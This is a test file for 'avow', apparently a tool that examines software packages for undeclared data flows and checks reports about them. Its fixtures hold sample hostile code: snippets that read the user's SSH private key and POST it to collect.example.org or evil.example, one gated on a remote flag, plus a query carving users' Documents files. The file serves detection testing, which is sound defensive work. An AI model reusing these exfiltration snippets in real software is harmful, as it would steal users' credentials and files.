import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { digestOf } from '@avow/bytes';
import {
  Docket,
  type Recheck,
  readSaid,
  recheckClaim,
  resolveClaim,
  type Stored,
} from '@avow/docket';
import type { DeclarationText } from '@avow/examine';
import { parseLocator } from '@avow/locator';
import { openDocketFolder } from '@avow/stores/docket';
import { Examiner } from '../../examiner.ts';
import { Progress } from '../../progress.ts';
import { storedOf } from '../claim/stored.ts';

/** The ten sharp checks: small products, each made so that only the right answer is right. */
const root = mkdtempSync(join(tmpdir(), 'avow-sharp-'));
let examiner: Examiner;
before(() => {
  const progress = new Progress(process.stderr, false);
  examiner = new Examiner({ cache: false }, progress, new AbortController().signal);
});
after(() => {
  examiner.close();
  rmSync(root, { recursive: true });
});

const CODE = `const https = require('node:https');
exports.upload = (bytes) =>
  https.request('https://collect.example.org/up', { method: 'POST' }).end(bytes);
`;
const QUIET = { select: 'SELECT name, version FROM os_version;' };
const CARVES = {
  docs: "SELECT * FROM carves WHERE carve = 1 AND path LIKE '/home/%/Documents/%%';",
};
const pack = (queries: Record<string, string>): string =>
  JSON.stringify({
    queries: Object.fromEntries(
      Object.entries(queries).map(([name, query]) => [name, { query, interval: 3600 }]),
    ),
  });

let folders = 0;
async function made(
  version: string,
  files: Record<string, string>,
  declaration?: string,
): Promise<Stored> {
  const folder = join(root, `product-${folders++}`);
  const all = { 'package.json': `{"name":"agent","version":"${version}"}`, ...files };
  for (const [path, text] of Object.entries(all)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  const held: DeclarationText | undefined =
    declaration === undefined ? undefined : { source: 'x.yaml', form: 'avow', text: declaration };
  return storedOf(examiner, folder, held);
}

function looked(place: string, said: string, stored: Stored): Recheck {
  const { target } = stored.examination.product;
  const locator = parseLocator(`${target}#${place}`);
  const found = resolveClaim(locator, [stored]);
  assert.equal(found.state, 'resolved', JSON.stringify(found));
  return recheckClaim(locator, readSaid(`feature: ${said}`).said[0]!, stored);
}

function reasonOf(place: string, all: readonly Stored[], target?: string): string {
  const product = target ?? all[0]!.examination.product.target;
  const found = resolveClaim(parseLocator(`${product}${place}`), all);
  return found.state === 'resolved' ? 'resolved' : found.lacks.map(({ reason }) => reason).join();
}

const SENDS = 'file.user -> net.named-service';

test('1. same code, one record added: blamed on exactly that update and record, and clear when it goes', async () => {
  const [one, two, three] = [
    await made('1.0.0', { 'lib/send.js': CODE, 'packs/fleet.json': pack(QUIET) }),
    await made('2.0.0', { 'lib/send.js': CODE, 'packs/fleet.json': pack({ ...QUIET, ...CARVES }) }),
    await made('3.0.0', { 'lib/send.js': CODE, 'packs/fleet.json': pack(QUIET) }),
  ];
  assert.equal(looked('packs/fleet.json @rec:docs', SENDS, two).outcome, 'reproduced');
  assert.equal(looked('packs/fleet.json @rec:select', SENDS, two).outcome, 'differs');
  assert.equal(looked('lib/send.js @line:3', SENDS, two).outcome, 'differs');
  for (const other of [one, three]) {
    assert.deepEqual(other.examination.flows, []);
    assert.equal(reasonOf('#packs/fleet.json @rec:docs', [other, two]), 'wrong-update');
  }
});

test('2. by code alone: the right function, and a neighbour does not support the claim', async () => {
  const stored = await made('1.0.0', {
    'lib/a.js': `const fs = require('node:fs');
const https = require('node:https');
function harmless() {
  return 1 + 1;
}
function report() {
  const key = fs.readFileSync(require('node:os').homedir() + '/.ssh/id_rsa');
  const text = key.toString();
  https.request('https://collect.example.org/k', { method: 'POST' }).end(text);
}
function alsoHarmless() {
  return harmless() + 1;
}
report();
alsoHarmless();
`,
  });
  const said = 'cred.ssh-pgp -> net.http';
  for (const line of [7, 8, 9]) {
    assert.equal(
      looked(`lib/a.js @line:${line}`, said, stored).outcome,
      'reproduced',
      `line ${line}`,
    );
  }
  assert.equal(looked('lib/a.js @sym:report', said, stored).outcome, 'reproduced');
  for (const line of [4, 12]) {
    const { outcome, elsewhere } = looked(`lib/a.js @line:${line}`, said, stored);
    assert.equal(outcome, 'differs', `line ${line}`);
    assert.match(elsewhere[0]!, /@line:7/);
  }
});

test('3. harmless record and harmless code, harmful together: both are named', async () => {
  const apart = await made('1.0.0', { 'lib/send.js': CODE });
  assert.deepEqual(apart.examination.flows, []);
  const both = await made('1.0.1', { 'lib/send.js': CODE, 'packs/fleet.json': pack(CARVES) });
  const { outcome, leaves } = looked('packs/fleet.json @rec:docs', 'net.named-service', both);
  assert.equal(outcome, 'reproduced');
  assert.ok(
    leaves.some((one) => one.includes('@rec:docs') && one.includes('lib/send.js @line:3')),
    leaves.join('\n'),
  );
});

test('4. missing record, record of another update, place outside the code, stale digest: four refusals', async () => {
  const one = await made('1.0.0', { 'lib/send.js': CODE, 'packs/fleet.json': pack(QUIET) });
  const two = await made('2.0.0', { 'lib/send.js': CODE, 'packs/fleet.json': pack(CARVES) });
  const stale = digestOf('another file').slice('sha256:'.length);
  assert.deepEqual(
    [
      reasonOf('#packs/fleet.json @rec:dogs', [one, two]),
      reasonOf('#packs/fleet.json @rec:docs', [one, two]),
      reasonOf('#lib/send.js @line:400', [one, two]),
      reasonOf(`#lib/send.js @line:3 sha256:${stale}`, [one, two]),
    ],
    ['no-such-record', 'wrong-update', 'outside-image', 'stale-digest'],
  );
});

const DECLARES = (does: string): string =>
  `avow: 1\nmaker: Example\nproduct: pkg:npm/agent\nversions: "*"\ndate: "2026-11-23"\nentries:\n  - name: only\n    does: ${does}\n    for: the test\n`;

test('5. a declaration that is edited after the claim changes no verdict', async () => {
  const files = { 'lib/send.js': CODE };
  const inForce = await made('1.0.0', files, DECLARES('net.dns'));
  const edited = await made('1.0.0', files, DECLARES('net.http'));
  const claimed = looked('lib/send.js @line:3', 'net.http', inForce);
  const later = looked('lib/send.js @line:3', 'net.http', edited);
  assert.equal(claimed.verdict, 'undeclared');
  assert.equal(later.verdict, 'declared');
  // The docket runs with the one that was kept at the time of the claim.
  const { store, kept, close } = openDocketFolder(join(root, 'docket-5'));
  const docket = new Docket(store, kept, () => Date.parse('2026-11-23T12:00:00Z'));
  const { id } = await docket.write('cleo', 'x');
  const text = `${inForce.examination.product.target}#lib/send.js @line:3\nfeature: net.http`;
  const answer = await docket.handIn(id, text, [inForce]);
  const claim = await docket.claim(id);
  assert.equal(answer.state === 'valid' && answer.recheck.verdict, 'undeclared');
  assert.equal(claim.declaration, digestOf(DECLARES('net.dns')));
  const again = await made('1.0.0', files, DECLARES('net.dns'));
  assert.equal(looked('lib/send.js @line:3', 'net.http', again).verdict, 'undeclared');
  close();
});

test('6. a flow that a remote answer decides is told with what decides it, and is not clean', async () => {
  const stored = await made('1.0.0', {
    'index.js': `async function run() {
  const answer = await fetch('https://config.example/flags.json');
  const flags = await answer.json();
  if (flags.collect) {
    const key = require('node:fs').readFileSync(require('node:os').homedir() + '/.ssh/id_rsa', 'utf8');
    await fetch('https://evil.example/', { method: 'POST', body: key });
  }
}
run();
`,
  });
  const { outcome, gates, verdict } = looked(
    'index.js @line:6',
    'cred.ssh-pgp -> net.http',
    stored,
  );
  assert.equal(outcome, 'reproduced');
  assert.ok(
    gates.some((gate) => gate.includes('remote')),
    gates.join(),
  );
  assert.equal(verdict, 'undeclared');
});

test('7. no locator: not considered; completed later, the same claim goes on', async () => {
  const stored = await made('1.0.0', { 'lib/send.js': CODE });
  const { store, kept, close } = openDocketFolder(join(root, 'docket-7'));
  const docket = new Docket(store, kept, () => Date.parse('2026-11-23T12:00:00Z'));
  const { id } = await docket.write('cleo', 'it phones home');
  const first = await docket.handIn(id, 'it phones home', []);
  assert.equal(first.state, 'returned');
  assert.equal(
    (await store.counts()).refusals.find(({ reason }) => reason === 'missing-place')?.count,
    1,
  );
  const text = `${stored.examination.product.target}#lib/send.js @line:3\nfeature: net.http`;
  const second = await docket.handIn(id, text, [stored]);
  assert.equal(second.state, 'valid');
  assert.equal(second.claim.id, id);
  assert.equal(second.claim.texts.length, 3, 'nothing that was typed is lost');
  close();
});

test('8. two contents under one number are an alarm of its own', async () => {
  const one = await made('1.0.0', { 'packs/fleet.json': pack(QUIET) });
  const other = await made('1.0.0', { 'packs/fleet.json': pack({ ...QUIET, ...CARVES }) });
  assert.equal(reasonOf('#packs/fleet.json @rec:docs', [one, other]), 'two-contents');
  const digest = other.files.find(({ path }) => path === 'packs/fleet.json')!.digest;
  const guard = digest.replace('sha256:', ' sha256:');
  assert.equal(reasonOf(`#packs/fleet.json @rec:docs${guard}`, [one, other]), 'resolved');
});

test('9. records of unknown types are never called clean', async () => {
  const stored = await made('1.0.0', {
    'local.rules':
      'frobnicate tcp any any -> any any (msg:"x"; content:"secret"; sid:1000001; rev:1;)\nalert tcp any any -> any any (msg:"y"; content:"z"; sid:1000002; rev:1;)\n',
  });
  const { outcome, verdict, unsettled } = looked('local.rules @line:1', 'file.write', stored);
  assert.deepEqual([outcome, verdict], ['inconclusive', 'unknown']);
  assert.ok(unsettled.length > 0);
});

test('10. corrupt members are never called clean', async () => {
  const stored = await made('1.0.0', { 'lib/broken.js': 'function ( { const = 7; \n}}}\n' });
  const { outcome, verdict, unsettled } = looked('lib/broken.js @line:1', 'net.http', stored);
  assert.deepEqual([outcome, verdict], ['inconclusive', 'unknown']);
  assert.match(unsettled.join(), /broken\.js/);
});
